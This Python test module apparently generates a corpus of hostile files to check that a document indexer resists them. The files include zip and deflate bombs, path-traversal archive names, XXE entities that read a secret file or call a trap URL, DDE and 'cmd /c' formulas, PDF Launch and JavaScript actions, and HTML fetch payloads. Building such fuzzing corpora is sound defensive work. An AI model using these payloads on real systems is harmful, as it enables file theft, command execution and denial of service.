"""Files made to do harm, several hundred: archives, XML, Word, Excel, PDF, pages, letters, pictures, names."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.index.file_makers import (
    docx_file,
    mail_file,
    ofd_file,
    pdf_file,
    picture_file,
    pptx_file,
    xlsx_file,
    zip_file,
)

Make = Callable[[], bytes]


@dataclass(frozen=True)
class Traps:
    """What must stay untouched: a server that nobody may ask, a file that nobody may read, one nobody may make."""

    url: str
    secret: str
    touched: str


@dataclass(frozen=True)
class Hostile:
    """One file: what it tries, the name that it bears, how it is made."""

    what: str
    name: str
    make: Make


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def corpus(traps: Traps) -> Iterator[Hostile]:
    """Yield every hostile file; equal traps give equal files."""
    yield from _archives()
    yield from _xml(traps)
    yield from _word(traps)
    yield from _sheets(traps)
    yield from _pdf(traps)
    yield from _pages(traps)
    yield from _letters(traps)
    yield from _pictures()
    yield from _old_formats(traps)
    yield from _tables(traps)
    yield from _names(traps)
    yield from _mutants()


def with_part(base: bytes, name: str, content: bytes | str) -> bytes:
    """A package with one member put in the place of another, or added."""
    with zipfile.ZipFile(io.BytesIO(base)) as old:
        members: dict[str, str | bytes] = {item.filename: old.read(item) for item in old.infolist()}
    return zip_file({**members, name: content})


def _odf(kind: str) -> bytes:
    body = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}[kind]
    space = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    content = f"<office:document-content {space}><office:body><office:text><text:p>字</text:p></office:text></office:body></office:document-content>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{body}")
        archive.writestr("content.xml", content)
    return out.getvalue()


PACKAGES: dict[str, tuple[Make, str]] = {
    "docx": (docx_file, "word/document.xml"),
    "xlsx": (xlsx_file, "xl/worksheets/sheet1.xml"),
    "pptx": (lambda: pptx_file([("标题", "字")]), "ppt/slides/slide1.xml"),
    "ofd": (lambda: ofd_file([["字"]]), "Doc_0/Document.xml"),
    "odt": (lambda: _odf("odt"), "content.xml"),
    "ods": (lambda: _odf("ods"), "content.xml"),
    "odp": (lambda: _odf("odp"), "content.xml"),
    "zip": (lambda: zip_file({"a.txt": "字"}), "a.txt"),
}
"""Every kind of package, a sound one, and the member that is read first."""


# -- archives ------------------------------------------------------------------------------------


def _archives() -> Iterator[Hostile]:
    for kind, (sound, main) in PACKAGES.items():
        for what, harm in ARCHIVE_HARMS.items():
            yield Hostile(f"压缩包:{what}", f"{what}.{kind}", lambda s=sound, m=main, h=harm: h(s(), m))


def _liar(base: bytes, main: str) -> bytes:
    made = bytearray(with_part(base, main, b"<a>" + b"a" * 3_000_003))
    size = struct.pack("<I", 3_000_006)
    return bytes(made).replace(size, struct.pack("<I", 900))


def _overlap(base: bytes, _main: str) -> bytes:
    made = bytearray(base)
    directory = made.rindex(b"PK\x01\x02")
    made[directory + 42 : directory + 46] = struct.pack("<I", 0)
    return bytes(made)


def _quine(base: bytes, _main: str) -> bytes:
    """Many members of the list that all lead to one compressed block."""
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x/kernel.xml", bytes(20_000_000))
        info = archive.getinfo("x/kernel.xml")
        for n in range(300):
            twin = zipfile.ZipInfo(f"x/{n}.xml")
            for field in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(twin, field, getattr(info, field))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return out.getvalue()


def _flagged(offset: int, value: int) -> Callable[[bytes, str], bytes]:
    def harm(base: bytes, _main: str) -> bytes:
        made = bytearray(base)
        place = made.find(b"PK\x01\x02")
        while place >= 0:
            made[place + offset : place + offset + 2] = struct.pack("<H", value)
            place = made.find(b"PK\x01\x02", place + 4)
        return bytes(made)

    return harm


def _linked(base: bytes, _main: str) -> bytes:
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/link.txt")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


ARCHIVE_HARMS: dict[str, Callable[[bytes, str], bytes]] = {
    "炸弹": lambda b, _m: with_part(b, "word/media/bomb.bin", bytes(410 * 1024 * 1024)),
    "首件炸弹": lambda b, m: with_part(b, m, b"<a>" + b" " * 250_000_000 + b"</a>"),
    "谎报大小": _liar,
    "重叠": _overlap,
    "一块多名": _quine,
    "三万个": lambda b, _m: with_many(b, 30_000),
    "往上的路径": lambda b, _m: with_part(b, "../../../../../../tmp/escaped-shenguan.txt", "外"),
    "绝对路径": lambda b, _m: with_part(b, "/tmp/escaped-shenguan.txt", "外"),
    "反斜线": lambda b, _m: with_part(b, "..\\..\\tmp\\escaped-shenguan.txt", "外"),
    "盘符": lambda b, _m: with_part(b, "C:\\tmp\\escaped-shenguan.txt", "外"),
    "倒写的名": lambda b, _m: with_part(b, "word/\u202exslx.exe", "外"),
    "链接": _linked,
    "加密标志": _flagged(8, 1),
    "不认识的压缩": _flagged(10, 99),
    "截断": lambda b, _m: b[: len(b) * 2 // 3],
    "前面有杂物": lambda b, _m: b"MZ" + bytes(5000) + b,
    "目录指到别处": _flagged(42, 0xFFFF),
    "套自己": lambda b, _m: with_part(b, "word/embeddings/inner.zip", with_part(b, "inner.zip", b)),
}


def with_many(base: bytes, count: int) -> bytes:
    """A package with so many members more."""
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a") as archive:
        for n in range(count):
            archive.writestr(f"word/n{n}.xml", "<a/>")
    return out.getvalue()


# -- XML -----------------------------------------------------------------------------------------


def _xml(traps: Traps) -> Iterator[Hostile]:
    nested = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    texts = {
        "读文件的实体": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{traps.secret}">]><a>&x;</a>',
        "取网址的实体": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{traps.url}/entity">]><a>&x;</a>',
        "外部 DTD": f'<!DOCTYPE a SYSTEM "{traps.url}/x.dtd"><a>字</a>',
        "参数实体": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{traps.url}/p.dtd"> %p;]><a>字</a>',
        "十亿个笑": f'<!DOCTYPE a [<!ENTITY a0 "ha">{nested}]><a>&a11;</a>',
        "平方膨胀": f'<!DOCTYPE a [<!ENTITY b "{"b" * 60_000}">]><a>{"&b;" * 60_000}</a>',
        "套得太深": "<a>" * 150_000,
        "一亿字的文字": "<a>" + "字" * 40_000_000 + "</a>",
        "很长的属性": f'<a b="{"x" * 30_000_000}"/>',
        "百万个兄弟": "<a>" + "<b/>" * 1_500_000 + "</a>",
        "外来的样式": f'<?xml-stylesheet type="text/xsl" href="{traps.url}/x.xsl"?><a>字</a>',
        "包含别的文件": f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{traps.secret}" parse="text"/></a>',
        "藏在 UTF-16 里的 DTD": f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{traps.secret}">]><a>&x;</a>',
        "不是 UTF-8": "<a>\udcff\udcfe</a>",
    }
    for kind, (sound, main) in PACKAGES.items():
        if kind == "zip":
            continue
        for what, text in texts.items():
            encoding = "utf-16" if "UTF-16" in what else "utf-8"
            content = text.encode(encoding, "surrogateescape")
            yield Hostile(
                f"XML:{what}", f"{what}.{kind}", lambda s=sound, m=main, c=content: with_part(s(), m, c)
            )


# -- Word ----------------------------------------------------------------------------------------


def _word(traps: Traps) -> Iterator[Hostile]:
    outside = (
        "attachedTemplate",
        "image",
        "oleObject",
        "subDocument",
        "frame",
        "font",
        "hyperlink",
        "aFChunk",
        "settings",
    )
    for kind in outside:
        for address in (f"{traps.url}/{kind}", f"file://{traps.secret}", "\\\\127.0.0.1\\share\\x"):
            rel = f'<Relationship Id="rId99" Type="{_REL}/{kind}" Target="{address}" TargetMode="External"/>'
            for place in ("word/_rels/settings.xml.rels", "word/_rels/header1.xml.rels"):
                yield Hostile(
                    "Word:外部引用",
                    f"{kind}.docx",
                    lambda p=place, r=rel: with_part(docx_file(), p, _RELS.format(r)),
                )
    fields = (
        f'INCLUDETEXT "{traps.secret}"', f'INCLUDEPICTURE "{traps.url}/x.png"', f'DDEAUTO c:\\\\x "touch {traps.touched}"',
        f'LINK Excel.Sheet "{traps.secret}"', f'DATABASE \\d "{traps.secret}"', "MACROBUTTON AutoOpen x",
    )  # fmt: skip
    for field in fields:
        quoted = field.replace("&", "&amp;").replace('"', "&quot;")
        body = f'<w:document {_W}><w:body><w:p><w:fldSimple w:instr="{quoted}"><w:r><w:t>字</w:t></w:r></w:fldSimple></w:p></w:body></w:document>'
        yield Hostile(
            "Word:域",
            f"{field[:6].strip()}.docx",
            lambda b=body: with_part(docx_file(), "word/document.xml", b),
        )
    parts = {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2000), "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(2000),
        "word/activeX/activeX1.bin": bytes(3000), "word/afchunk.html": f'<img src="{traps.url}/x">'.encode(),
        "word/fonts/font1.odttf": random.Random(1).randbytes(9000), "word/embeddings/run.exe": b"MZ" + bytes(3000),
    }  # fmt: skip
    for member, content in parts.items():
        yield Hostile(
            "Word:宏和对象",
            f"{member.split('/')[-1]}.docx",
            lambda m=member, c=content: with_part(docx_file(), m, c),
        )
    table = (
        f"<w:document {_W}><w:body>"
        + "<w:tbl><w:tr><w:tc>" * 3000
        + "</w:tc></w:tr></w:tbl>" * 3000
        + "</w:body></w:document>"
    )
    yield Hostile("Word:表里套表", "套表.docx", lambda: with_part(docx_file(), "word/document.xml", table))
    style = f'<w:styles {_W}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
    yield Hostile("Word:样式绕圈", "绕圈.docx", lambda: with_part(docx_file(), "word/styles.xml", style))
    wide = f'<w:document {_W}><w:body><w:p><w:pPr><w:ind w:left="99999999999999999999"/></w:pPr><w:r><w:t>字</w:t></w:r></w:p></w:body></w:document>'
    yield Hostile("Word:数太大", "数太大.docx", lambda: with_part(docx_file(), "word/document.xml", wide))


# -- Excel ---------------------------------------------------------------------------------------


def _sheets(traps: Traps) -> Iterator[Hostile]:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

    def sheet(inside: str) -> Make:
        return lambda: with_part(
            xlsx_file(), "xl/worksheets/sheet1.xml", f"<worksheet {space}>{inside}</worksheet>"
        )

    formulas = (
        f"cmd|'/c touch {traps.touched}'!A0", f'WEBSERVICE("{traps.url}/f")', f'HYPERLINK("{traps.url}/h","点")',
        f'IMPORTXML("{traps.url}/i","/")', "A1", "INDIRECT(A1)", 'CALL("x","y","z")',
    )  # fmt: skip
    for n, formula in enumerate(formulas):
        cell = formula.replace("&", "&amp;").replace('"', "&quot;")
        inside = f'<sheetData><row r="1"><c r="A1"><f>{cell}</f><v>1</v></c></row></sheetData>'
        yield Hostile("Excel:公式", f"公式{n}.xlsx", sheet(inside))
    shapes = {
        "远格": '<sheetData><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>',
        "谎报范围": '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>',
        "合并全表": '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        "很多合并": "<sheetData/><mergeCells>" + '<mergeCell ref="A1:ZZ9999"/>' * 2000 + "</mergeCells>",
        "百万行": "<sheetData>" + "<row><c><v>1</v></c></row>" * 1_100_000 + "</sheetData>",
        "行号是负": '<sheetData><row r="-5"><c r="A-5"><v>1</v></c></row></sheetData>',
        "行号太大": '<sheetData><row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData>',
        "列名太长": f'<sheetData><row r="1"><c r="{"Z" * 5000}1"><v>1</v></c></row></sheetData>',
        "没有的字串": '<sheetData><row r="1"><c r="A1" t="s"><v>99999999</v></c></row></sheetData>',
        "数太长": f'<sheetData><row r="1"><c r="A1"><v>{"9" * 100_000}</v></c></row></sheetData>',
        "日期太大": '<sheetData><row r="1"><c r="A1" s="1"><v>1e300</v></c></row></sheetData>',
    }
    for what, inside in shapes.items():
        yield Hostile(f"Excel:{what}", f"{what}.xlsx", sheet(inside))
    strings = f"<sst {space}>" + "<si><t>x</t></si>" * 2_000_000 + "</sst>"
    yield Hostile(
        "Excel:字串太多", "字串.xlsx", lambda: with_part(xlsx_file(), "xl/sharedStrings.xml", strings)
    )
    styles = f"<styleSheet {space}><cellXfs>" + "<xf/>" * 1_000_000 + "</cellXfs></styleSheet>"
    yield Hostile("Excel:样式太多", "样式.xlsx", lambda: with_part(xlsx_file(), "xl/styles.xml", styles))
    link = f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" Target="{traps.url}/x.xlsx" TargetMode="External"/>'
    yield Hostile(
        "Excel:外部链接",
        "链接.xlsx",
        lambda: with_part(xlsx_file(), "xl/externalLinks/_rels/externalLink1.xml.rels", _RELS.format(link)),
    )
    yield Hostile("Excel:宏", "宏.xlsx", lambda: with_part(xlsx_file(), "xl/vbaProject.bin", bytes(4000)))


# -- PDF -----------------------------------------------------------------------------------------


def pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF from the bodies of its objects, 1 the catalogue; with a right table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """The body of a stream object."""
    return b"<</Length %d%b>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _page(
    catalogue: bytes = b"", page: bytes = b"", content: bytes = b"BT ET", *more: bytes, extra: bytes = b""
) -> bytes:
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogue,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%b>>" % page,
        stream(content, extra),
        *more,
    )


def _pdf(traps: Traps) -> Iterator[Hostile]:
    url, touch = traps.url.encode(), f"touch {traps.touched}".encode()
    actions = {
        "JavaScript": b"<</S/JavaScript/JS(app.launchURL\\('%b'\\))>>" % url,
        "Launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c %b)>>>>" % touch,
        "URI": b"<</S/URI/URI(%b/uri)>>" % url,
        "GoToR": b"<</S/GoToR/F(%b)/D[0/Fit]>>" % traps.secret.encode(),
        "SubmitForm": b"<</S/SubmitForm/F<</FS/URL/F(%b/form)>>>>" % url,
        "ImportData": b"<</S/ImportData/F(%b)>>" % traps.secret.encode(),
        "Rendition": b"<</S/Rendition/OP 0>>",
        "GoToE": b"<</S/GoToE/T<</R/C/N(a)>>>>",
    }
    for what, action in actions.items():
        yield Hostile("PDF:打开时的动作", f"{what}.pdf", lambda a=action: _page(b"/OpenAction %b" % a))
        yield Hostile("PDF:页面的动作", f"页{what}.pdf", lambda a=action: _page(page=b"/AA<</O %b>>" % a))
        annot = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A %b>>]"
        yield Hostile("PDF:链接的动作", f"链{what}.pdf", lambda a=action, n=annot: _page(page=n % a))
    bomb = zlib.compress(bytes(300_000_000), 9)
    twice = zlib.compress(zlib.compress(bytes(300_000_000), 9), 9)
    shapes: dict[str, Make] = {
        "炸弹流": lambda: _page(b"", b"", bomb, extra=b"/Filter/FlateDecode"),
        "两层炸弹": lambda: _page(b"", b"", twice, extra=b"/Filter[/FlateDecode/FlateDecode]"),
        "二十层": lambda: _page(b"", b"", b"00" * 500, extra=b"/Filter[" + b"/ASCIIHexDecode" * 20 + b"]"),
        "不认识的滤": lambda: _page(b"", b"", b"x", extra=b"/Filter/JBIG2Decode"),
        "长度为负": lambda: _page().replace(b"/Length 5", b"/Length -9"),
        "长度太大": lambda: _page().replace(b"/Length 5", b"/Length 99999999999"),
        "长度指自己": lambda: _page().replace(b"/Length 5", b"/Length 4 0 R"),
        "坏的表": lambda: _page().replace(b"xref\n0", b"xxxx\n0"),
        "表指自己": lambda: _page().replace(b"<</Size", b"<</Prev 9/Size"),
        "表绕圈": lambda: (p := _page()).replace(b"<</Size", b"<</Prev %d/Size" % p.rindex(b"xref\n0")),
        "只有头": lambda: b"%PDF-1.7\n",
        "截断": lambda: _page()[:200],
        "没有页": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>"),
        "页是自己的上级": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[2 0 R]/Parent 2 0 R>>"),
        "百万页": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1000000/Kids[" + b"3 0 R " * 1_000_000 + b"]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        "谎报百万页": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1000000/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        "页面太大": lambda: _page(page=b"/MediaBox[0 0 1e9 1e9]"),
        "页面反着": lambda: _page(page=b"/MediaBox[900 900 -900 -900]/Rotate 33"),
        "页面是零": lambda: _page(page=b"/MediaBox[0 0 0 0]"),
        "表单绕圈": lambda: _page(b"", b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", stream(b"/a Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</a 5 0 R>>>>")),
        "表单翻倍": lambda: _page(b"", b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", *(stream(b"/a Do /a Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</a %d 0 R>>>>" % (n + 1)) for n in range(5, 40)), stream(b"BT ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")),
        "书签绕圈": lambda: _page(b"/Outlines 5 0 R", b"", b"BT ET", b"<</First 6 0 R/Last 6 0 R>>", b"<</Title(x)/Next 6 0 R/First 6 0 R/Parent 6 0 R>>"),
        "名称树绕圈": lambda: _page(b"/Names<</EmbeddedFiles 5 0 R/JavaScript 5 0 R>>", b"", b"BT ET", b"<</Kids[5 0 R 5 0 R]>>"),
        "附件是程序": lambda: _page(b"/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>", b"", b"BT ET", b"<</Type/Filespec/F(..\\\\..\\\\a.exe)/EF<</F 6 0 R>>>>", stream(b"MZ" + bytes(500), b"/Type/EmbeddedFile")),
        "附件是炸弹": lambda: _page(b"/Names<</EmbeddedFiles<</Names[(a.txt)5 0 R]>>>>", b"", b"BT ET", b"<</Type/Filespec/F(a.txt)/EF<</F 6 0 R>>>>", stream(bomb, b"/Type/EmbeddedFile/Filter/FlateDecode")),
        "XFA": lambda: _page(b"/AcroForm<</XFA 5 0 R/Fields[]>>", b"", b"BT ET", stream(f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{traps.secret}">]><a>&x;</a>'.encode())),
        "元数据里的实体": lambda: _page(b"/Metadata 5 0 R", b"", b"BT ET", stream(f'<!DOCTYPE a [<!ENTITY x SYSTEM "{traps.url}/m">]><x>&x;</x>'.encode(), b"/Type/Metadata/Subtype/XML")),
        "大图": lambda: _page(b"", b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", stream(zlib.compress(bytes(9000)), b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode")),
        "坏的 JPX": lambda: _page(b"", b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", stream(random.Random(2).randbytes(5000), b"/Type/XObject/Subtype/Image/Width 100/Height 100/Filter/JPXDecode")),
        "坏的字体": lambda: _page(b"", b"/Resources<</Font<</a 5 0 R>>>>", b"BT /a 12 Tf (xyz) Tj ET", b"<</Type/Font/Subtype/Type1/BaseFont/X/FontDescriptor 6 0 R>>", b"<</Type/FontDescriptor/FontFile 7 0 R>>", stream(random.Random(3).randbytes(9000), b"/Length1 9 /Length2 9")),
        "字号太大": lambda: _page(b"", b"/Resources<</Font<</a 5 0 R>>>>", b"BT /a 1e30 Tf 1e30 0 0 1e30 1e30 1e30 Tm (xyz) Tj ET", b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"),
        "百万个字": lambda: _page(b"", b"/Resources<</Font<</a 5 0 R>>>>", b"BT /a 1 Tf " + b"(x) Tj " * 1_000_000 + b"ET", b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"),
        "百万个 q": lambda: _page(content=b"q " * 1_000_000),
        "百万条线": lambda: _page(content=b"0 0 m 9 9 l S " * 700_000),
        "数组太深": lambda: _page(b"/X " + b"[" * 100_000 + b"]" * 100_000),
        "字典太深": lambda: _page(b"/X " + b"<</a" * 50_000 + b" 1" + b">>" * 50_000),
        "很长的注释": lambda: b"%PDF-1.7\n" + b"%" * 30_000_000 + b"\n" + _page(),
        "对象流绕圈": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", stream(b"2 0 1 0 <<>>", b"/Type/ObjStm/N 2/First 8/Extends 2 0 R")),
        "颜色空间绕圈": lambda: _page(b"", b"/Resources<</ColorSpace<</a 5 0 R>>>>", b"/a cs 1 sc 0 0 9 9 re f", b"[/Indexed 5 0 R 255 <00>]"),
        "图案绕圈": lambda: _page(b"", b"/Resources<</Pattern<</a 5 0 R>>>>", b"/Pattern cs /a scn 0 0 595 842 re f", stream(b"/Pattern cs /a scn 0 0 9 9 re f", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 0.0001/YStep 0.0001/Resources<</Pattern<</a 5 0 R>>>>")),
        "函数太复杂": lambda: _page(b"", b"/Resources<</Shading<</a<</ShadingType 1/ColorSpace/DeviceGray/Function 5 0 R>>>>>>", b"/a sh", stream(b"{" * 5000 + b"}" * 5000, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")),
        "改了一千次": lambda: _page() + b"".join(b"4 0 obj\n<<>>\nendobj\nxref\n0 0\ntrailer\n<</Size 9/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n" for _ in range(1000)),
        "又是 PDF 又是 ZIP": lambda: _page() + zip_file({"x.exe": b"MZ" + bytes(99)}),
        "又是网页": lambda: b"<html><script>x</script>\n" + _page(),
        "不认识的加密": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>", trailer=b"/Encrypt<</Filter/X/V 99/R 99/O()/U()/P 0>>"),
        "有密码": lambda: pdf_file(password="x"),
    }  # fmt: skip
    for what, make in shapes.items():
        yield Hostile(f"PDF:{what}", f"{what}.pdf", make)


# -- pages, letters, pictures --------------------------------------------------------------------


def _pages(traps: Traps) -> Iterator[Hostile]:
    bodies = {
        "脚本": f"<script>fetch('{traps.url}/js')</script>", "事件": f"<svg onload=\"fetch('{traps.url}/on')\"></svg>",
        "框": f'<iframe src="{traps.url}/frame"></iframe>', "图": f'<img src="{traps.url}/img" srcset="{traps.url}/2 2x">',
        "样式": f"<style>@import url({traps.url}/css); body{{background:url({traps.url}/bg)}}</style>",
        "转到": f'<meta http-equiv="refresh" content="0;url={traps.url}/go">', "基址": f'<base href="{traps.url}/"><img src="x">',
        "对象": f'<object data="{traps.url}/obj"></object><embed src="file://{traps.secret}">',
        "借用": f'<svg><use href="file://{traps.secret}#a"/><image href="{traps.url}/svgimg"/></svg>',
        "太深": "<div>" * 200_000, "太多": "<p>字</p>" * 400_000, "长属性": f'<p title="{"x" * 20_000_000}">字</p>',
        "没有完的标签": "<a " * 300_000, "没有完的注释": "<!--" * 300_000, "很多表": "<table><tr><td>" * 60_000,
        "实体很多": "&amp;" * 3_000_000, "大数的字": "&#99999999999999999999;&#xD800;&#0;" * 1000,
    }  # fmt: skip
    for what, body in bodies.items():
        yield Hostile(
            f"网页:{what}", f"{what}.html", lambda b=body: f"<html><body><p>字</p>{b}</body></html>".encode()
        )
        yield Hostile(
            f"网页:{what}",
            f"{what}.mht",
            lambda b=body: (
                b"Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + f"<html>{b}</html>".encode()
            ),
        )
        yield Hostile(
            f"SVG:{what}",
            f"{what}.svg",
            lambda b=body: f'<svg xmlns="http://www.w3.org/2000/svg">{b}</svg>'.encode(),
        )
    doctype = f'<!DOCTYPE html [<!ENTITY x SYSTEM "file://{traps.secret}">]>'
    yield Hostile(
        "网页:实体",
        "实体.xhtml",
        lambda: f"{doctype}<html xmlns='http://www.w3.org/1999/xhtml'><body>&x;</body></html>".encode(),
    )


def _letters(traps: Traps) -> Iterator[Hostile]:
    def nested(depth: int) -> bytes:
        letter = mail_file({"里面.txt": "字".encode()})
        for _ in range(depth):
            letter = mail_file({"信.eml": letter})
        return letter

    parts = b"".join(
        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (n, n + 1) for n in range(5000)
    )
    external = (
        b'Content-Type: message/external-body; access-type=URL; URL="%b/mail"\r\n\r\nContent-Type: text/plain\r\n\r\n'
        % traps.url.encode()
    )
    heads = {
        "信中信": lambda: nested(30), "很多段": lambda: b'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n' + parts,
        "信头太多": lambda: b"Subject: x\r\n" + b"X-A: b\r\n" * 700_000 + b"\r\nx", "信头太长": lambda: b"Subject: " + b"x" * 20_000_000 + b"\r\n\r\nx",
        "附件名往上": lambda: mail_file({"../../../../tmp/escaped-shenguan.txt": b"x"}), "附件是程序": lambda: mail_file({"x.exe": b"MZ" + bytes(99)}),
        "外部的正文": lambda: b"Subject: x\r\n" + external, "不认识的编码": lambda: "Subject: x\r\nContent-Type: text/plain; charset=zzz\r\n\r\n字".encode(),
        "编码的主题": lambda: b"Subject: " + b"=?utf-8?q?" + b"=41" * 100_000 + b"?=\r\n\r\nx", "收件人太多": lambda: b"To: " + b"a@b.cn, " * 300_000 + b"\r\n\r\nx",
    }  # fmt: skip
    for what, make in heads.items():
        yield Hostile(f"邮件:{what}", f"{what}.eml", make)


def png(width: int, height: int, more: bytes = b"") -> bytes:
    """A picture of a few kilobytes that says to be of this size."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + more
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def _pictures() -> Iterator[Hostile]:
    bomb = zlib.compress(bytes(100_000_000), 9)
    text = (
        struct.pack(">I", len(bomb) + 3)
        + b"zTXt"
        + b"x\0\0"
        + bomb
        + struct.pack(">I", zlib.crc32(b"zTXt" + b"x\0\0" + bomb))
    )
    tiff = (
        b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 99) + struct.pack("<I", 8)
    )
    size = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9"
    gif = b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;" * 1
    bmp = (
        b"BM"
        + struct.pack("<IHHIIiiHHIIiiII", 58, 0, 0, 54, 40, 60000, 60000, 1, 24, 0, 0, 0, 0, 0, 0)
        + bytes(4)
    )
    for what, name, data in (
        ("太大", "大.png", png(60_000, 60_000)), ("零", "零.png", png(0, 0)), ("文字炸弹", "字.png", png(9, 9, text)),
        ("绕圈", "圈.tif", tiff), ("太大", "大.jpg", size), ("太大", "大.gif", gif), ("太大", "大.bmp", bmp),
        ("截断", "断.png", picture_file(["字"])[:900]), ("杂物", "杂.jpg", b"\xff\xd8\xff" + random.Random(4).randbytes(9000)),
        ("杂物", "杂.tif", b"MM\0*" + random.Random(5).randbytes(9000)),
    ):  # fmt: skip
        yield Hostile(f"图片:{what}", name, lambda d=data: d)


# -- old formats, tables, names, mutants ---------------------------------------------------------


def _old_formats(traps: Traps) -> Iterator[Hostile]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    noise = random.Random(6).randbytes(20_000)
    for name, stream_name in (
        ("坏.doc", "WordDocument"),
        ("坏.xls", "Workbook"),
        ("坏.ppt", "PowerPoint Document"),
        ("坏.msg", "__properties_version1.0"),
    ):
        body = ole + noise[:600] + stream_name.encode("utf-16-le") + b"\0\0" + noise
        yield Hostile("旧格式:损坏", name, lambda b=body: b)
